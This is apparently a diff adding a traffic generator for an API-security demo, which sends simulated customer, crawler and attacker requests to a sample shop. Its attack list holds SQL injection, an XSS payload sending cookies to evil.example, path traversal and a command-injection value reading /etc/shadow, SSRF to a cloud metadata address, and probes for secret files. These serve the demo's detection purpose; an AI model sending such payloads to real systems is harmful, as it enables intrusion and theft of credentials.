@@ -1,0 +1,132 @@
+"""Who visits the sample shop: customers, a crawler that guesses, and somebody with bad intentions."""
+
+from __future__ import annotations
+
+import random
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from itertools import cycle
+from typing import Any
+
+import requests
+
+from metlo_otel.demo.goods import PRODUCTS, USERS, User
+
+_TIMEOUT = 10.0  # seconds
+_PAUSE = 0.15  # seconds between two requests, on average
+
+_CARD = "4111 1111 1111 1111"  # the number that card networks give out for tests
+_ATTACKS: tuple[tuple[str, str, dict[str, Any]], ...] = (
+    ("GET", "/api/products", {"params": {"q": "' OR 1=1 UNION SELECT name, password FROM users --"}}),
+    ("GET", "/api/products", {"params": {"q": "<script>fetch('//evil.example/?'+document.cookie)</script>"}}),
+    ("GET", "/api/manuals", {"params": {"file": "../../../../etc/passwd"}}),
+    ("POST", "/api/login", {"json": {"user": "admin' --", "password": "x"}}),
+    ("GET", "/api/manuals", {"params": {"file": "manual.txt; cat /etc/shadow"}}),
+    ("GET", "/api/manuals", {"params": {"file": "http://169.254.169.254/latest/meta-data/"}}),
+)
+_GUESSES = ("/.env", "/wp-login.php", "/admin", "/api/users/1", "/internal/customers", "/.git/config")
+
+
+@dataclass(slots=True)
+class Visitor:
+    """Somebody with an address and a browser; `go` makes one request and returns the answer."""
+
+    shop: str
+    address: str
+    agent: str
+    session: requests.Session = field(default_factory=requests.Session)
+
+    def go(self, method: str, path: str, **more: Any) -> requests.Response:
+        headers = {"X-Forwarded-For": self.address, "User-Agent": self.agent, **more.pop("headers", {})}
+        return self.session.request(method, self.shop + path, headers=headers, timeout=_TIMEOUT, **more)
+
+
+class Visitors:
+    """All of them, one request at a time on a thread of their own; use it with `with`."""
+
+    def __init__(self, shop: str, seed: int = 7) -> None:
+        self._random = random.Random(seed)
+        self._end = threading.Event()
+        self._thread = threading.Thread(target=self._visit, args=(shop,), name="metlo-otel-visitors", daemon=True)
+        self.problem: requests.RequestException | None = None
+
+    def __enter__(self) -> Visitors:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_problem: object) -> None:
+        self._end.set()
+        self._thread.join(_TIMEOUT)
+
+    def _visit(self, shop: str) -> None:
+        plans = cycle(_plans(shop, self._random))
+        try:
+            while not self._end.is_set():
+                for _ in next(plans)():
+                    if self._end.wait(self._random.uniform(0, 2 * _PAUSE)):
+                        return
+        except requests.RequestException as problem:
+            self.problem = problem
+
+
+Plan = Callable[[], Iterator[requests.Response]]
+
+
+def _plans(shop: str, chance: random.Random) -> list[Plan]:
+    people = [
+        Visitor(shop, f"198.51.100.{20 + number}", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
+        for number in range(3)
+    ]
+    crawler = Visitor(shop, "203.0.113.9", "guesser/0.3")
+    attacker = Visitor(shop, "203.0.113.66", "python-requests/2.31")
+    customers = [_customer(who, user, chance) for who, user in zip(people, USERS.values(), strict=True)]
+    return [*customers, _window_shopper(people[0], chance), _guesser(crawler, chance), _attacker(attacker, chance)]
+
+
+def _customer(who: Visitor, user: User, chance: random.Random) -> Plan:
+    """Browses, mistypes the password, logs in, buys; one in three sends an empty order."""
+
+    def visit() -> Iterator[requests.Response]:
+        yield from _window_shopper(who, chance)()
+        if chance.random() < 0.4:
+            yield who.go("POST", "/api/login", json={"user": user.name, "password": "qwertz"})
+        entry = who.go("POST", "/api/login", json={"user": user.name, "password": user.password})
+        yield entry
+        known = {"Authorization": f"Bearer {entry.json()['token']}"}
+        yield who.go("GET", "/api/me", headers=known)
+        lines = [{"product": chance.choice(list(PRODUCTS)), "count": 1}] if chance.random() > 0.3 else []
+        yield who.go("POST", "/api/checkout", headers=known, json={"lines": lines, "card": _CARD})
+        yield who.go("GET", "/api/orders.csv", headers=known)
+        number = chance.choice(list(PRODUCTS))
+        yield who.go("POST", f"/api/products/{number}/reviews", headers=known, json={"text": "Very good.", "stars": 5})
+
+    return visit
+
+
+def _window_shopper(who: Visitor, chance: random.Random) -> Plan:
+    def visit() -> Iterator[requests.Response]:
+        yield who.go("GET", "/")
+        yield who.go("GET", "/api/products", params={"q": chance.choice(["tea", "cup", "honey"]), "limit": 5})
+        for _ in range(chance.randint(1, 4)):
+            yield who.go("GET", f"/api/products/{chance.choice([*PRODUCTS, 999])}")
+        yield who.go("GET", "/api/manuals", params={"file": "manual.txt"})
+
+    return visit
+
+
+def _guesser(who: Visitor, chance: random.Random) -> Plan:
+    def visit() -> Iterator[requests.Response]:
+        for path in chance.sample(_GUESSES, 3):
+            yield who.go("GET", path)
+        yield who.go("GET", "/api/me", headers={"Authorization": "Bearer guessed"})
+
+    return visit
+
+
+def _attacker(who: Visitor, chance: random.Random) -> Plan:
+    def visit() -> Iterator[requests.Response]:
+        for method, path, more in chance.sample(_ATTACKS, 3):
+            yield who.go(method, path, **more)
+
+    return visit
